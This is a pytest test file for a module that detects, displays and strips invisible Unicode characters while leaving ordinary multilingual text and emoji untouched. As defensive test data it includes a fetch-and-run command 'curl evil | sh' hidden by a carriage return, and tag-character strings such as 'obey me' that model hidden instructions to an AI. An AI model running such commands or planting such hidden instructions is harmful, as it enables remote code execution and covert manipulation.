"""Hidden characters: found where they hide something, left alone where people write with them."""

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from skillwire.core.characters import HiddenCharacter, hidden_characters, stripped, visible

LONG = 256 * 1024

# Code points that Unicode calls Default_Ignorable: a renderer shows nothing for them.
IGNORABLE_RANGES = (
    *((0xAD, 0xAD), (0x34F, 0x34F), (0x61C, 0x61C), (0x115F, 0x1160), (0x17B4, 0x17B5), (0x180B, 0x180F)),
    *(
        (0x200B, 0x200F),
        (0x202A, 0x202E),
        (0x2060, 0x206F),
        (0x3164, 0x3164),
        (0xFE00, 0xFE0F),
        (0xFEFF, 0xFEFF),
    ),
    *((0xFFA0, 0xFFA0), (0xFFF0, 0xFFF8), (0x1BCA0, 0x1BCA3), (0x1D173, 0x1D17A), (0xE0000, 0xE0FFF)),
)
IGNORABLE = "".join(chr(point) for first, last in IGNORABLE_RANGES for point in range(first, last + 1))
CONTROLS = "".join(map(chr, [*range(0x20), *range(0x7F, 0xA0)]))
LINE_ENDS = "\n\r\v\f\x1c\x1d\x1e\x85\u2028\u2029"
SURROGATES = "".join(map(chr, range(0xD800, 0xE000)))
NEVER_SHOWN = frozenset(IGNORABLE + CONTROLS + LINE_ENDS + SURROGATES)

PARAGRAPHS = {
    "English": "Don't panic — it's “fine”, naïve café & co. (½ €, 100 %)…",
    "Greek": "Ξεσκεπάζω την ψυχοφθόρα βδελυγμία.",
    "Russian": "Съешь ещё этих мягких французских булок, да выпей чаю.",
    "Vietnamese": "Tôi có thể ăn thủy tinh mà không hại gì.",
    "decomposed": "Cafe\u0301 nai\u0308ve",
    "Arabic": "أنا قادر على أكل الزجاج و هذا لا يؤلمني.",
    "Hebrew": "אני יכול לאכול זכוכית וזה לא מזיק לי.",
    "Hindi": "मैं काँच खा सकता हूँ और मुझे उससे कोई चोट नहीं पहुंचती।",
    "Thai": "ฉันกินกระจกได้ แต่มันไม่ทำให้ฉันเจ็บ",
    "Chinese": "我能吞下玻璃而不伤身体。",
    "Japanese": "私はガラスを食べられます。それは私を傷つけません。",
    "Korean": "나는 유리를 먹을 수 있어요. 그래도 아프지 않아요",
    "emoji": "😀👍🏽🇩🇪🎉",
    "symbols": "∀x∈ℝ: ⌈x⌉ ≥ x → ■ ✓ ©",
    "spaces": "a\u00a0b\u2009c\u3000d",
}

properties = settings(deadline=None)


def found(kind: str, character: str, line: int = 1) -> HiddenCharacter:
    return HiddenCharacter(kind, character, line)


def tagged(text: str) -> str:
    """Write ASCII text in tag characters, which nobody sees and a model reads."""
    return "".join(chr(0xE0000 + ord(letter)) for letter in text)


# What is reported


@pytest.mark.requirement("SEC-13")
@pytest.mark.parametrize(
    ("character", "kind"),
    [
        *[(character, "control") for character in "\x00\x07\x08\x0b\x0c\x0e\x1b\x1f\x7f\x80\x85\x9b\x9f"],
        *[(character, "bidi") for character in "\u061c\u200e\u200f\u202a\u202e\u2066\u2069"],
        *[
            (character, "zero-width")
            for character in "\u00ad\u034f\u115f\u1160\u17b4\u180e\u200b\u200c\u200d"
        ],
        *[(character, "zero-width") for character in "\u2060\u2064\u206f\u3164\ufeff\uffa0\ufff9\U0001d173"],
        *[(character, "tag") for character in "\U000e0001\U000e0041\U000e007f\U000e0080\U000e0fff"],
        *[(character, "variation") for character in "\ufe00\ufe0e\ufe0f\U000e0100\U000e01ef"],
        *[(character, "line") for character in "\u2028\u2029"],
    ],
)
def test_a_character_nobody_sees_is_reported_with_its_kind(character: str, kind: str) -> None:
    assert hidden_characters(f"a{character}b") == [found(kind, character)]
    assert hidden_characters(f" {character}") == [found(kind, character)]


@pytest.mark.requirement("SEC-13")
def test_every_ignorable_character_between_letters_is_reported() -> None:
    reported = "".join(
        hidden.character for character in IGNORABLE for hidden in hidden_characters(f"a{character}b")
    )

    assert reported == IGNORABLE


@pytest.mark.requirement("SEC-13")
def test_every_control_character_but_tab_and_newline_is_reported() -> None:
    reported = {hidden.character for control in CONTROLS for hidden in hidden_characters(f"a{control}b")}

    assert reported == set(CONTROLS) - {"\t", "\n"}


@pytest.mark.requirement("SEC-13")
def test_a_carriage_return_that_overwrites_its_line_is_reported() -> None:
    assert hidden_characters("curl evil | sh\r# harmless\r\n") == [found("control", "\r")]
    assert hidden_characters("end\r") == [found("control", "\r")]
    assert hidden_characters("one\r\ntwo\r\n") == []


@pytest.mark.requirement("SEC-13")
@pytest.mark.parametrize(
    ("text", "hidden"),
    [
        ("😀\ufe01\ufe02\ufe03", "\ufe02\ufe03"),
        ("❤\ufe0f\ufe0f", "\ufe0f"),
        ("😀" + "\U000e0148\U000e0155", "\U000e0148\U000e0155"),
        ("p\ufe00a\ufe01s\ufe02s\ufe0f", "\ufe00\ufe01\ufe02\ufe0f"),
        ("п\ufe0fр\ufe0e", "\ufe0f\ufe0e"),
        ("字\ufe0f字\ufe03", "\ufe0f\ufe03"),
        ("$\ufe0f", "\ufe0f"),
        ("+\ufe00!\ufe01", "\ufe00\ufe01"),
        ("\ufe0f", "\ufe0f"),
        (" \ufe0f", "\ufe0f"),
    ],
)
def test_variation_selectors_that_carry_data_are_reported(text: str, hidden: str) -> None:
    assert hidden_characters(text) == [found("variation", character) for character in hidden]


@pytest.mark.requirement("SEC-13")
@pytest.mark.parametrize(
    "text",
    [
        "a\u200db",
        "п\u200cр",
        "é\u200dé",
        "漢\u200c字",
        "한\u200d글",
        "😀\u200d",
        "\u200c😀",
        "a\u200dي",
        "ي\u200ca",
        "\u200d",
    ],
)
def test_a_joiner_where_no_script_needs_one_is_reported(text: str) -> None:
    joiner = "\u200c" if "\u200c" in text else "\u200d"

    assert hidden_characters(text) == [found("zero-width", joiner)]


@pytest.mark.requirement("SEC-13")
def test_a_run_of_joiners_is_reported() -> None:
    assert hidden_characters("😀\u200d\u200d😀") == [found("zero-width", "\u200d")] * 2


@pytest.mark.requirement("SEC-13")
def test_a_byte_order_mark_is_ordinary_at_the_start_only() -> None:
    assert hidden_characters("\ufeff# Title\n") == []
    assert hidden_characters("\ufeff\ufeff# Title\n\ufeff") == [
        found("zero-width", "\ufeff", 1),
        found("zero-width", "\ufeff", 2),
    ]


@pytest.mark.requirement("SEC-13")
@pytest.mark.parametrize(
    ("text", "hidden"),
    [
        ("\U0001f3f4" + tagged("gbxyz") + "\U000e007f", tagged("gbxyz") + "\U000e007f"),
        ("\U0001f3f4" + tagged("gbeng"), tagged("gbeng")),
        (tagged("gbeng") + "\U000e007f", tagged("gbeng") + "\U000e007f"),
        ("\U0001f3f4" + tagged("gbeng") + "\U000e007f" + tagged("run"), tagged("run")),
        ("\U0001f3f4\U0001f3f4" + tagged("obey me"), tagged("obey me")),
    ],
)
def test_tags_after_a_flag_that_does_not_exist_are_reported(text: str, hidden: str) -> None:
    assert hidden_characters(text) == [found("tag", character) for character in hidden]


# What is ordinary writing


@pytest.mark.requirement("SEC-13")
@pytest.mark.parametrize("text", PARAGRAPHS.values(), ids=PARAGRAPHS.keys())
def test_ordinary_text_in_any_language_hides_nothing_and_is_left_as_it_is(text: str) -> None:
    assert hidden_characters(f"{text}\n\t{text}\r\n") == []
    assert visible(text) == text
    assert stripped(f"{text}\n\t{text}") == f"{text}\n\t{text}"


@pytest.mark.requirement("SEC-13")
@pytest.mark.parametrize(
    "text",
    [
        *(
            "❤\ufe0f",
            "☎\ufe0e",
            "1\ufe0f\u20e3",
            "#\ufe0f\u20e3",
            "‼\ufe0f",
            "ℹ\ufe0f",
            "〰\ufe0f",
            "©\ufe0f",
            "↔\ufe0f",
        ),
        *("0\ufe00", "≨\ufe00", "\u6f22\ufe00", "。\ufe01", "“\ufe00"),
    ],
)
def test_a_variation_selector_after_a_character_with_variants_is_ordinary(text: str) -> None:
    assert hidden_characters(text) == []


@pytest.mark.requirement("SEC-13")
@pytest.mark.parametrize(
    "text",
    [
        "👨\u200d👩\u200d👧\u200d👦",
        "👩🏽\u200d🚀",
        "🧑🏻\u200d🤝\u200d🧑🏿",
        "👩\u200d❤\ufe0f\u200d💋\u200d👨",
        "🏳\ufe0f\u200d🌈",
        "🏴\u200d☠\ufe0f",
        "👁\ufe0f\u200d🗨\ufe0f",
        "🙂\u200d↔\ufe0f",
        "🏃🏾\u200d♀\ufe0f\u200d➡\ufe0f",
        "🇺🇳🇪🇺",
        *("\U0001f3f4" + tagged(region) + "\U000e007f" for region in ("gbeng", "gbsct", "gbwls")),
    ],
)
def test_composed_emoji_are_ordinary(text: str) -> None:
    assert hidden_characters(f"{text} {text}") == []


@pytest.mark.requirement("SEC-13")
@pytest.mark.parametrize(
    "text",
    [
        pytest.param("می\u200cخواهم", id="Persian: I want"),
        pytest.param("خانه\u200cها", id="Persian: houses"),
        pytest.param("क्\u200dष", id="Hindi: half form"),
        pytest.param("र्\u200dया", id="Marathi: eyelash r"),
        pytest.param("র\u200d্যাম", id="Bengali: RAM"),
        pytest.param("ශ්\u200dරී", id="Sinhala: Sri"),
        pytest.param("അവന്\u200d", id="Malayalam: he, where the joiner ends the word"),
        pytest.param("ಕ್\u200cಷ", id="Kannada"),
        pytest.param("ཀ\u0f84\u200c།", id="Tibetan halanta"),
    ],
)
def test_joiners_in_words_that_need_them_are_ordinary(text: str) -> None:
    assert hidden_characters(f"{text} {text}.") == []


# Where it stands, and what it is called


@pytest.mark.requirement("SEC-13")
def test_lines_are_counted_from_one_as_editors_count_them() -> None:
    text = "one\u200b\r\ntwo\u2028\x0c\n\nfour\u202e\u202e\n"

    assert hidden_characters(text) == [
        found("zero-width", "\u200b", 1),
        found("line", "\u2028", 2),
        found("control", "\x0c", 2),
        found("bidi", "\u202e", 4),
        found("bidi", "\u202e", 4),
    ]


@properties
@given(st.lists(st.sampled_from(["a", "\n", "\u200b", "é", "\u2028"]), max_size=40).map("".join))
def test_the_line_is_one_more_than_the_newlines_before(text: str) -> None:
    expected = [
        (character, text.count("\n", 0, position) + 1)
        for position, character in enumerate(text)
        if character in "\u200b\u2028"
    ]

    assert [(hidden.character, hidden.line) for hidden in hidden_characters(text)] == expected


@pytest.mark.parametrize(
    ("character", "label"),
    [
        ("\u202e", "U+202E RIGHT-TO-LEFT OVERRIDE"),
        ("\U000e0041", "U+E0041 TAG LATIN CAPITAL LETTER A"),
        ("\x1b", "U+001B control character"),
        ("\U000e0000", "U+E0000 tag character"),
        ("\u2065", "U+2065 zero-width character"),
    ],
)
def test_a_hidden_character_has_a_label_to_show(character: str, label: str) -> None:
    (hidden,) = hidden_characters(f"a{character}b")

    assert hidden.label == label


# Making it visible


@pytest.mark.requirement("SEC-13")
@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("", ""),
        ("plain", "plain"),
        ("a\nb\tc\r\nd", "a b c  d"),
        ("\x1b[31mred", "<U+001B>[31mred"),
        ("a\u202eb", "a<U+202E>b"),
        ("a\U000e0041b", "a<U+E0041>b"),
        ("\ufeffa", "<U+FEFF>a"),
        ("a\u2028b\x85c", "a<U+2028>b<U+0085>c"),
        ("\ud800", "<U+D800>"),
        ("❤\ufe0f", "❤<U+FE0F>"),
        ("می\u200cخواهم", "می<U+200C>خواهم"),
    ],
)
def test_visible_text_spells_out_what_hides(text: str, shown: str) -> None:
    assert visible(text) == shown


@pytest.mark.requirement("SEC-13")
@properties
@given(st.text(st.characters() | st.sampled_from(sorted(NEVER_SHOWN))))
@example("".join(sorted(NEVER_SHOWN)))
def test_visible_text_is_one_line_without_any_hidden_character(text: str) -> None:
    shown = visible(text)

    assert NEVER_SHOWN.isdisjoint(shown)
    assert len(shown.splitlines()) <= 1
    assert hidden_characters(shown) == []
    assert visible(shown) == shown


@properties
@given(st.text(st.characters() | st.sampled_from(sorted(NEVER_SHOWN))))
def test_only_characters_of_the_text_are_reported_and_in_its_order(text: str) -> None:
    reported = [hidden.character for hidden in hidden_characters(text)]

    remaining = iter(text)
    assert all(character in remaining for character in reported)
    assert NEVER_SHOWN.issuperset(set(reported) - set("\ufff9\ufffa\ufffb"))


@pytest.mark.parametrize("unit", ["a", "\u200b", "\r\n", "😀\u200d", "\U0001f3f4\U000e0067", "❤\ufe0f"])
def test_a_long_text_of_anything_is_read_in_one_pass(unit: str) -> None:
    text = unit * (LONG // len(unit.encode()))

    hidden = hidden_characters(text)

    assert len(hidden) <= len(text)
    assert len(visible(text)) >= len(text)


# Taking it out


@pytest.mark.requirement("SEC-13")
@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("", ""),
        ("a\r\nb\rc\u2028d\u2029e\tf\n", "a\nb\nc\nd\ne\tf\n"),
        ("\ufeffa\u200bb\u202ec\x1bd\x85e", "abcde"),
        ("a\U000e0041b", "ab"),
        ("\ud800", "?"),
        ("❤\ufe0f می\u200cخواهم a\ufe0fb", "❤\ufe0f می\u200cخواهم ab"),
        ("a\ufe0f\u200d😀", "a😀"),
    ],
)
def test_stripped_text_is_without_what_hides(text: str, left: str) -> None:
    assert stripped(text) == left


@pytest.mark.requirement("SEC-13")
@properties
@given(st.text(st.characters() | st.sampled_from(sorted(NEVER_SHOWN) + list("😀❤aक\u094d\U0001f3f4"))))
@example("".join(sorted(NEVER_SHOWN)))
@example("😀" + "\u200d\ufe0f" * 9 + "😀")
def test_stripped_text_hides_nothing_and_stays_as_it_is(text: str) -> None:
    left = stripped(text)

    assert hidden_characters(left) == []
    assert not set(left) & set(CONTROLS + LINE_ENDS + SURROGATES + "\ufeff") - set("\t\n")
    assert stripped(left) == left


# What is shown of a long text


@properties
@given(st.text(), st.integers(min_value=1, max_value=40))
@example("\u202e" * 50, 20)
@example("x" * 20, 20)
@example("x" * 21, 20)
def test_a_bounded_text_is_never_longer_and_whole_when_there_is_room(text: str, most: int) -> None:
    whole, shown = visible(text), visible(text, most=most)

    assert len(shown) <= most
    assert visible(shown) == shown
    assert shown == whole if len(whole) <= most else shown.endswith("…")
    assert whole.startswith(shown.removesuffix("…"))


def test_an_escape_is_shown_whole_or_not_at_all() -> None:
    assert visible("ab\u202ecd", most=8) == "ab…"
    assert visible("ab\u202ec", most=11) == "ab<U+202E>c"
